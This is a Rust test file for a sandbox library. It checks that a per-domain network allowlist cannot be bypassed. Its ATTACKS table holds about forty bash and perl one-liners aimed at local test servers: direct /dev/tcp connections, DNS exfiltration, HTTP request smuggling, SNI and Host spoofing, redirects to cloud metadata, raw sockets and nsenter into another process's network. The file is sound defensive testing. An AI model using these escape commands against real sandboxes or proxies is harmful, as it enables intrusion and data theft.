//! Hosts by name: what is granted works, and nothing gets around it.

use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use loopwright_sandbox::{
    AllowedDomain, Backend, Command, Guarantee, Network, NetworkAccess, NetworkOutcome, Output,
    SandboxError,
};

use crate::world::World;

/// A server of the host that keeps what it is sent, and answers every connection.
struct Server {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Server {
    /// Answers each request with a text; a request for `/to?URL` leads to that URL.
    fn start(answer: &'static str) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&heard);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let kept = Arc::clone(&kept);
                std::thread::spawn(move || serve(stream, answer, &kept));
            }
        });
        Self { port, heard }
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().unwrap().clone()
    }
}

fn serve(mut stream: TcpStream, answer: &str, kept: &Mutex<Vec<String>>) {
    let at = {
        let mut kept = kept.lock().unwrap();
        kept.push(String::new());
        kept.len() - 1
    };
    let mut buffer = [0; 4096];
    let mut said = String::new();
    let mut is_answered = false;
    while let Ok(count @ 1..) = stream.read(&mut buffer) {
        said.push_str(&String::from_utf8_lossy(&buffer[..count]));
        kept.lock().unwrap()[at].clone_from(&said);
        if !is_answered {
            is_answered = true;
            let target = said.split_once("/to?").and_then(|(_, rest)| rest.split(' ').next());
            let head = match target {
                Some(target) => format!("HTTP/1.1 302 Found\r\nLocation: {target}"),
                None => "HTTP/1.1 200 OK".to_owned(),
            };
            let length = answer.len();
            let answer = format!("{head}\r\nContent-Length: {length}\r\n\r\n{answer}");
            stream.write_all(answer.as_bytes()).ok();
        }
        if said.contains("Connection: close\r\n\r\n") {
            // What comes after the request still counts as heard.
            stream.set_read_timeout(Some(Duration::from_millis(50))).ok();
        }
    }
}

struct Net {
    world: World,
    granted: Server,
    secret: Server,
}

impl Net {
    fn in_tier(backend: Backend) -> Self {
        let world = World::in_tier(backend);
        Self { world, granted: Server::start("welcome"), secret: Server::start("LEAKED") }
    }

    async fn try_run(&self, line: &str) -> Result<Output, SandboxError> {
        let domains = [
            format!("granted.test:{}@127.0.0.1", self.granted.port),
            // A name that leads to this machine, as a hostile one could.
            format!("localhost:{}", self.secret.port),
        ];
        let domains = domains.map(|text| text.parse::<AllowedDomain>().unwrap());
        let policy = self.world.policy().with_network(Network::Domains(domains.into()));
        let command = Command::new("/bin/bash").args(["-c", line]);
        self.world.try_run(&command, &policy).await
    }

    async fn run(&self, line: &str) -> Output {
        self.try_run(line).await.unwrap()
    }

    fn line(&self, line: &str) -> String {
        line.replace("@GRANTED@", &format!("granted.test:{}", self.granted.port))
            .replace("@SECRET@", &self.secret.port.to_string())
            .replace("@PROXY@", "exec 3<>/dev/tcp/127.0.0.1/3128;")
            .replace("@REST@", "timeout 5 cat <&3")
            .replace("@OTHER_HELLO@", &hello(Some("other.test"), &[]))
            .replace("@GRANTED_HELLO@", &hello(Some("granted.test"), &[]))
            .replace("@HIDDEN_HELLO@", &hello(Some("granted.test"), &[0xFE, 0x0D, 0, 1, 0]))
            .replace("@NO_HELLO@", &hello(None, &[]))
    }
}

/// The first message of TLS as an argument of `printf`.
fn hello(name: Option<&str>, more: &[u8]) -> String {
    let word = |length: usize| u16::try_from(length).unwrap().to_be_bytes();
    let mut extensions = more.to_vec();
    if let Some(name) = name {
        extensions.extend([0, 0]);
        extensions.extend(word(name.len() + 5));
        extensions.extend(word(name.len() + 3));
        extensions.push(0);
        extensions.extend(word(name.len()));
        extensions.extend(name.as_bytes());
    }
    let mut body = vec![3, 3];
    body.extend([b'x'; 32]);
    body.extend([0, 0, 2, 0x13, 1, 1, 0]);
    body.extend(word(extensions.len()));
    body.extend(extensions);
    let [high, low] = word(body.len());
    let message = [&[1, 0, high, low], body.as_slice()].concat();
    let [high, low] = word(message.len());
    let record = [&[22, 3, 1, high, low], message.as_slice()].concat();
    let hex: Vec<String> = record.iter().map(|byte| format!("\\x{byte:02x}")).collect();
    format!("'{}'", hex.concat())
}

/// Ways around, each of which would have the secret server answer, or the granted one hear `STOLEN`.
const ATTACKS: &[(&str, &str)] = &[
    ("direct IPv4", "exec 3<>/dev/tcp/127.0.0.1/@SECRET@; echo >&3; @REST@"),
    ("direct address of the internet", "exec 3<>/dev/tcp/1.1.1.1/443 && echo LEAKED"),
    ("direct IPv6", "exec 3<>/dev/tcp/::1/@SECRET@ && echo LEAKED"),
    ("direct IPv6 of the internet", "exec 3<>/dev/tcp/2606:4700:4700::1111/443 && echo LEAKED"),
    ("DNS by UDP", "exec 3<>/dev/udp/8.8.8.8/53 && echo STOLEN >&3 && echo LEAKED"),
    ("DNS by the resolver", "getent hosts c3RvbGVu.example.com && echo LEAKED"),
    (
        "DNS tunnel by the proxy",
        "@PROXY@ printf 'CONNECT c3RvbGVu.other.test:443 HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "CONNECT to the port of DNS",
        "@PROXY@ printf 'CONNECT granted.test:53 HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "CONNECT to the port of mail",
        "@PROXY@ printf 'CONNECT granted.test:25 HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "CONNECT to another host",
        "@PROXY@ printf 'CONNECT other.test:443 HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "a name that ends like a granted one",
        "@PROXY@ printf 'CONNECT notgranted.test:@SECRET@ HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "a name that begins like a granted one",
        "@PROXY@ printf 'CONNECT @GRANTED@.other.test:443 HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "a user in the place of a host",
        "@PROXY@ printf 'GET http://@GRANTED@@localhost:@SECRET@/ HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "another name in SNI",
        "@PROXY@ printf 'CONNECT @GRANTED@ HTTP/1.1\\r\\n\\r\\n' >&3; read -t 5 <&3; printf @OTHER_HELLO@ >&3; echo STOLEN >&3; @REST@",
    ),
    (
        "no name in SNI",
        "@PROXY@ printf 'CONNECT @GRANTED@ HTTP/1.1\\r\\n\\r\\n' >&3; read -t 5 <&3; printf @NO_HELLO@ >&3; echo STOLEN >&3; @REST@",
    ),
    (
        "a hidden name in SNI",
        "@PROXY@ printf 'CONNECT @GRANTED@ HTTP/1.1\\r\\n\\r\\n' >&3; read -t 5 <&3; printf @HIDDEN_HELLO@ >&3; echo STOLEN >&3; @REST@",
    ),
    (
        "another protocol in a tunnel",
        "@PROXY@ printf 'CONNECT @GRANTED@ HTTP/1.1\\r\\n\\r\\n' >&3; read -t 5 <&3; echo 'SSH-2.0-STOLEN' >&3; @REST@",
    ),
    (
        "plain HTTP in a tunnel",
        "@PROXY@ printf 'CONNECT @GRANTED@ HTTP/1.1\\r\\n\\r\\nGET /STOLEN HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "another name in Host",
        "@PROXY@ printf 'GET http://@GRANTED@/STOLEN HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "two names in Host",
        "@PROXY@ printf 'GET http://@GRANTED@/STOLEN HTTP/1.1\\r\\nHost: @GRANTED@\\r\\nHost: other.test\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "a second request",
        "@PROXY@ printf 'GET http://@GRANTED@/ HTTP/1.1\\r\\n\\r\\nGET /STOLEN HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "a second request behind a body",
        "@PROXY@ printf 'POST http://@GRANTED@/ HTTP/1.1\\r\\nContent-Length: 1\\r\\n\\r\\nxGET /STOLEN HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "two lengths of a body",
        "@PROXY@ printf 'POST http://@GRANTED@/STOLEN HTTP/1.1\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /STOLEN HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "another protocol by an upgrade",
        "@PROXY@ printf 'GET http://@GRANTED@/ HTTP/1.1\\r\\nUpgrade: h2c\\r\\nConnection: Upgrade\\r\\n\\r\\nSTOLEN' >&3; @REST@",
    ),
    ("HTTP/2", "@PROXY@ printf 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nSTOLEN' >&3; @REST@"),
    (
        "a redirect to this machine",
        "curl -sL -m 5 'http://@GRANTED@/to?http://127.0.0.1:@SECRET@/' --noproxy ''",
    ),
    (
        "a redirect to metadata",
        "curl -sfL -m 5 --noproxy '' 'http://@GRANTED@/to?http://169.254.169.254/latest' && echo LEAKED",
    ),
    (
        "a redirect to another host",
        "curl -sfL -m 5 'http://@GRANTED@/to?http://other.test/' && echo LEAKED",
    ),
    (
        "localhost by the proxy",
        "@PROXY@ printf 'GET http://localhost:@SECRET@/ HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "loopback by the proxy",
        "@PROXY@ printf 'CONNECT 127.0.0.1:@SECRET@ HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "metadata by the proxy",
        "@PROXY@ printf 'GET http://169.254.169.254/ HTTP/1.1\\r\\n\\r\\n' >&3; read -t 5 answer <&3; [[ $answer != *403* ]] && echo LEAKED",
    ),
    (
        "IPv6 by the proxy",
        "@PROXY@ printf 'GET http://[::1]:@SECRET@/ HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "mapped IPv4 by the proxy",
        "@PROXY@ printf 'GET http://[::ffff:127.0.0.1]:@SECRET@/ HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "a number as an address",
        "@PROXY@ printf 'GET http://2130706433:@SECRET@/ HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "another form of an address",
        "@PROXY@ printf 'GET http://0x7f.1:@SECRET@/ HTTP/1.1\\r\\n\\r\\n' >&3; @REST@",
    ),
    (
        "an abstract socket",
        "perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, pack(\"S a*\", AF_UNIX, \"\\0loopwright-@SECRET@\")) and print \"LEAKED\"'",
    ),
    (
        "a socket in a folder",
        "perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, sockaddr_un(\"@SOCKET@\")) and print \"LEAKED\"'",
    ),
    ("a raw socket", "perl -MSocket -e 'socket(S, AF_INET, SOCK_RAW, 1) and print \"LEAKED\"'"),
    ("a packet socket", "perl -MSocket -e 'socket(S, 17, SOCK_RAW, 768) and print \"LEAKED\"'"),
    (
        "a socket to the hypervisor",
        "perl -MSocket -e 'socket(S, 40, SOCK_STREAM, 0) and print \"LEAKED\"'",
    ),
    ("the network of another process", "nsenter --net=/proc/1/ns/net true && echo LEAKED"),
    ("an interface of its own", "ip link add eth0 type dummy 2>/dev/null && echo LEAKED"),
    (
        "no proxy",
        "env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY curl -s -m 5 http://127.0.0.1:@SECRET@/",
    ),
    (
        "a proxy of its own",
        "perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(Listen => 1, LocalAddr => \"127.0.0.1:9999\") or die; if (fork) { $c = $l->accept; $s = IO::Socket::INET->new(\"127.0.0.1:@SECRET@\") and print $c \"LEAKED\"; } else { $c = IO::Socket::INET->new(\"127.0.0.1:9999\"); print <$c> }'",
    ),
    (
        "the place of the proxy",
        "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(Listen => 1, LocalAddr => \"127.0.0.1:3128\") and print \"LEAKED\"'",
    ),
    ("the descriptors of the first process", "cat /proc/1/fd/* 2>/dev/null && echo LEAKED"),
];

#[tokio::test]
async fn nothing_gets_around_the_hosts_that_are_granted() {
    assert!(ATTACKS.len() >= 25);
    for backend in [Backend::Namespaces, Backend::Bubblewrap] {
        let net = Net::in_tier(backend);
        if backend == Backend::Bubblewrap && net.try_run("true").await.is_err() {
            continue;
        }
        let name =
            SocketAddr::from_abstract_name(format!("loopwright-{}", net.secret.port)).unwrap();
        let _abstract_socket = UnixListener::bind_addr(&name).unwrap();
        let socket = net.world.outside("socket");
        let _socket = UnixListener::bind(&socket).unwrap();
        for (name, line) in ATTACKS {
            let line = net.line(&line.replace("@SOCKET@", &socket.to_string_lossy()));
            let output = net.run(&line).await;
            let said = output.stdout.to_text();
            assert!(!said.contains("LEAKED"), "{backend}: {name}: {said}");
            assert_eq!(net.secret.heard(), Vec::<String>::new(), "{backend}: {name}");
            let stolen = net.granted.heard().into_iter().find(|heard| heard.contains("STOLEN"));
            assert_eq!(stolen, None, "{backend}: {name}");
            let is_through =
                |access: &NetworkAccess| access.is_reached() && access.host != "granted.test";
            assert!(
                !output.network.iter().any(is_through),
                "{backend}: {name}: {:?}",
                output.network
            );
            assert!(output.enforced.enforces(Guarantee::Network));
        }
    }
}

#[tokio::test]
async fn each_attack_on_the_proxy_is_told_with_its_reason() {
    let net = Net::in_tier(Backend::Namespaces);
    for (name, line) in ATTACKS.iter().filter(|(_, line)| line.contains("@PROXY@")) {
        let output = net.run(&net.line(line)).await;
        let is_ours = |access: &NetworkAccess| access.is_reached() && access.host == "granted.test";
        // These get one honest request through, and nothing else.
        let is_cut = name.starts_with("a second") || name.contains("upgrade");
        let is_told = output
            .network
            .iter()
            .any(|access| if is_cut { is_ours(access) } else { access.is_refused() });
        assert!(is_told, "{name}: {:?} {}", output.network, output.stderr.to_text());
    }
}

#[tokio::test]
async fn a_host_that_is_granted_is_reached_and_counted() {
    let net = Net::in_tier(Backend::Namespaces);
    let output = net.run(&net.line("curl -s -m 5 http://@GRANTED@/path")).await;
    assert_eq!(output.stdout.to_text(), "welcome", "{}", output.stderr.to_text());
    let [access] = output.network.as_slice() else { panic!("{:?}", output.network) };
    assert_eq!((access.host.as_str(), access.port), ("granted.test", net.granted.port));
    assert!(
        matches!(access.outcome, NetworkOutcome::Reached { sent: 60.., received: 40.. }),
        "{access:?}"
    );
    let tunnel = "@PROXY@ printf 'CONNECT @GRANTED@ HTTP/1.1\\r\\n\\r\\n' >&3; read -t 5 answer <&3; \
                  echo \"$answer\"; printf @GRANTED_HELLO@ >&3; @REST@";
    let output = net.run(&net.line(tunnel)).await;
    assert!(output.stdout.to_text().contains("200 Connection established"), "{output:?}");
    assert!(output.network[0].is_reached(), "{:?}", output.network);
    assert!(
        net.granted
            .heard()
            .iter()
            .any(|heard| heard.contains("granted.test") && heard.starts_with('\u{16}'))
    );
}

#[tokio::test]
async fn servers_of_the_command_are_reached_without_the_proxy() {
    let net = Net::in_tier(Backend::Namespaces);
    let line = "perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(Listen => 1, LocalAddr => \"127.0.0.1:9999\") \
                or die; if (fork) { $c = $l->accept; print $c \"HTTP/1.0 200 OK\\r\\n\\r\\nown\"; } else { exec qw(curl -s \
                -m 5 http://127.0.0.1:9999/) }'; wait";
    let output = net.run(line).await;
    assert_eq!(output.stdout.to_text(), "own", "{}", output.stderr.to_text());
    assert_eq!(output.network, []);
}

#[tokio::test]
async fn a_driver_that_cannot_keep_to_names_runs_nothing() {
    for backend in [Backend::Landlock, Backend::Host] {
        let net = Net::in_tier(backend);
        let error = net.try_run("touch made").await.unwrap_err();
        assert!(matches!(error, SandboxError::Unavailable(_)), "{backend}: {error}");
        assert!(error.to_string().contains("by name"), "{error}");
        assert!(!net.world.path("made").exists());
    }
}
